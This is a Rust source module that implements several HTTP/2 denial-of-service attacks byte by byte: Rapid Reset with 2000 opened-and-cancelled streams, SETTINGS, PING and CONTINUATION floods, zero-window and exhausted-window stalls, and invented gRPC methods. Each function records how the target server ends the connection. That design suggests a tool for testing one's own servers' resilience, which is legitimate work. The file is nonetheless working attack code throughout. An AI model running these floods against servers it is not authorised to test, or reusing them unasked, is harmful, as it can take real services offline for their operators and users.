//! Attacks by HTTP/2, written frame by frame.

use std::time::Duration;

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    time::timeout,
};

use crate::{
    attacks::Ending,
    targets::{Stream, Target, Targets},
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const INITIAL_WINDOW_SIZE: u8 = 4;
const FRAME_HEAD: usize = 9;

/// A connection by HTTP/2 without prior knowledge of anything.
struct Connection {
    stream: Stream,
    read: Vec<u8>,
    /// `RST_STREAM` and responses so far.
    seen: Option<String>,
}

impl Connection {
    async fn open(targets: &Targets, target: Target, window: u32) -> std::io::Result<Self> {
        let mut stream = targets.attack(target, true).await?;
        let mut bytes = PREFACE.to_vec();
        let mut settings = vec![0, INITIAL_WINDOW_SIZE];
        settings.extend(window.to_be_bytes());
        frame(SETTINGS, 0, 0, &settings, &mut bytes);
        stream.write_all(&bytes).await?;
        Ok(Self {
            stream,
            read: Vec::new(),
            seen: None,
        })
    }

    async fn request(&mut self, id: u32, path: &str) -> std::io::Result<()> {
        let mut bytes = Vec::new();
        frame(HEADERS, END_HEADERS | END_STREAM, id, &head(path), &mut bytes);
        self.stream.write_all(&bytes).await
    }

    /// Reads to the end of the connection or GOAWAY with an error, and returns what ended it.
    async fn end(&mut self) -> Ending {
        loop {
            while let Some((kind, code)) = self.next_frame() {
                match kind {
                    GOAWAY if code != 0 => return Ok(format!("GOAWAY {}", error_name(code))),
                    GOAWAY => self.seen = Some("GOAWAY NO_ERROR".to_owned()),
                    RST_STREAM => self.seen = Some(format!("RST_STREAM {}", error_name(code))),
                    _ => {}
                }
            }
            match self.stream.read_buf(&mut self.read).await {
                Ok(1..) => {}
                ended => {
                    let ended = if ended.is_ok() { "closed" } else { "reset" };
                    return Ok(match self.seen.take() {
                        Some(seen) => format!("{seen}, {ended}"),
                        None => ended.to_owned(),
                    });
                }
            }
        }
    }

    /// Waits for a response, and returns its first byte as a status.
    async fn response(&mut self) -> Ending {
        loop {
            while let Some((kind, code)) = self.next_frame() {
                match kind {
                    HEADERS => return Ok("responded".to_owned()),
                    GOAWAY => return Ok(format!("GOAWAY {}", error_name(code))),
                    RST_STREAM => return Ok(format!("RST_STREAM {}", error_name(code))),
                    _ => {}
                }
            }
            if self.stream.read_buf(&mut self.read).await? == 0 {
                return Ok("closed".to_owned());
            }
        }
    }

    /// Takes a whole frame; returns its kind, and its error code if it has one.
    fn next_frame(&mut self) -> Option<(u8, u32)> {
        let head = self.read.get(..FRAME_HEAD)?;
        let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
        let kind = head[3];
        let payload = self.read.get(FRAME_HEAD..FRAME_HEAD + length)?;
        let code = match kind {
            GOAWAY => payload.get(4..8),
            RST_STREAM => payload.get(..4),
            _ => None,
        };
        let code = code
            .and_then(|code| code.try_into().ok())
            .map_or(0, u32::from_be_bytes);
        self.read.drain(..FRAME_HEAD + length);
        Some((kind, code))
    }

    /// Writes the same bytes until the server ends the connection; reads nothing until then.
    async fn flood(&mut self, bytes: &[u8]) -> Ending {
        for _ in 0..1000 {
            // A write that makes no progress means that the server no longer reads.
            match timeout(Duration::from_secs(8), self.stream.write_all(bytes)).await {
                Ok(Ok(())) => tokio::time::sleep(Duration::from_millis(5)).await,
                Ok(Err(_)) | Err(_) => break,
            }
        }
        self.end().await
    }
}

pub(super) async fn zero_window(targets: &Targets, target: Target) -> Ending {
    let mut connection = Connection::open(targets, target, 0).await?;
    for stream in 0..20 {
        connection.request(2 * stream + 1, "/big").await?;
    }
    connection.end().await
}

pub(super) async fn used_up_window(targets: &Targets, target: Target) -> Ending {
    let mut connection = Connection::open(targets, target, 1 << 30).await?;
    for stream in 0..20 {
        connection.request(2 * stream + 1, "/big").await?;
    }
    connection.end().await
}

pub(super) async fn pings(targets: &Targets, target: Target) -> Ending {
    let mut connection = Connection::open(targets, target, 65_535).await?;
    let mut ping = Vec::new();
    frame(PING, 0, 0, &[0; 8], &mut ping);
    loop {
        if connection.stream.write_all(&ping).await.is_err() {
            return connection.end().await;
        }
        if let Ok(ending) = timeout(Duration::from_secs(1), connection.end()).await {
            return ending;
        }
    }
}

pub(super) async fn rapid_reset(targets: &Targets, target: Target) -> Ending {
    let mut connection = Connection::open(targets, target, 65_535).await?;
    let mut bytes = Vec::new();
    for stream in 0..2000 {
        let id = 2 * stream + 1;
        frame(HEADERS, END_HEADERS | END_STREAM, id, &head("/slow"), &mut bytes);
        frame(RST_STREAM, 0, id, &8_u32.to_be_bytes(), &mut bytes);
    }
    let _ = connection.stream.write_all(&bytes).await;
    connection.end().await
}

pub(super) async fn settings_flood(targets: &Targets, target: Target) -> Ending {
    let mut connection = Connection::open(targets, target, 65_535).await?;
    let mut bytes = Vec::new();
    for _ in 0..500 {
        frame(SETTINGS, 0, 0, &[], &mut bytes);
    }
    connection.flood(&bytes).await
}

pub(super) async fn ping_flood(targets: &Targets, target: Target) -> Ending {
    let mut connection = Connection::open(targets, target, 65_535).await?;
    let mut bytes = Vec::new();
    for _ in 0..500 {
        frame(PING, 0, 0, &[0; 8], &mut bytes);
    }
    connection.flood(&bytes).await
}

pub(super) async fn continuation_flood(targets: &Targets, target: Target) -> Ending {
    let mut connection = Connection::open(targets, target, 65_535).await?;
    let mut bytes = Vec::new();
    frame(HEADERS, END_STREAM, 1, &head("/"), &mut bytes);
    connection.stream.write_all(&bytes).await?;
    bytes.clear();
    for _ in 0..10 {
        // A field without an indexed name, again and again.
        frame(CONTINUATION, 0, 1, &b"\x00\x01x\x05yyyyy".repeat(100), &mut bytes);
    }
    connection.flood(&bytes).await
}

pub(super) async fn invented_methods(targets: &Targets, target: Target) -> Ending {
    let mut connection = Connection::open(targets, target, 65_535).await?;
    let path = format!("/s{}.Invented/M{}", fastrand::u32(..), fastrand::u32(..));
    let mut block = head(&path);
    // POST
    block[0] = 0x83;
    block.extend(b"\x0f\x10\x10application/grpc\x00\x02te\x08trailers");
    block.extend(b"\x00\x0cx-request-id\x0a");
    block.extend(format!("{:010}", fastrand::u32(..)).bytes());
    let mut bytes = Vec::new();
    frame(HEADERS, END_HEADERS, 1, &block, &mut bytes);
    frame(DATA, END_STREAM, 1, &[0; 5], &mut bytes);
    connection.stream.write_all(&bytes).await?;
    connection.response().await
}

fn head(path: &str) -> Vec<u8> {
    // GET and http from the static table, then path and authority without Huffman coding.
    let mut block = vec![0x82, 0x86, 0x04];
    block.push(u8::try_from(path.len()).expect("the paths are short"));
    block.extend(path.bytes());
    block.extend(b"\x01\x01a");
    block
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8], bytes: &mut Vec<u8>) {
    let length = u32::try_from(payload.len())
        .expect("the frames are small")
        .to_be_bytes();
    bytes.extend(&length[1..]);
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
}

fn error_name(code: u32) -> String {
    match code {
        0 => "NO_ERROR".to_owned(),
        1 => "PROTOCOL_ERROR".to_owned(),
        2 => "INTERNAL_ERROR".to_owned(),
        7 => "REFUSED_STREAM".to_owned(),
        8 => "CANCEL".to_owned(),
        11 => "ENHANCE_YOUR_CALM".to_owned(),
        code => code.to_string(),
    }
}
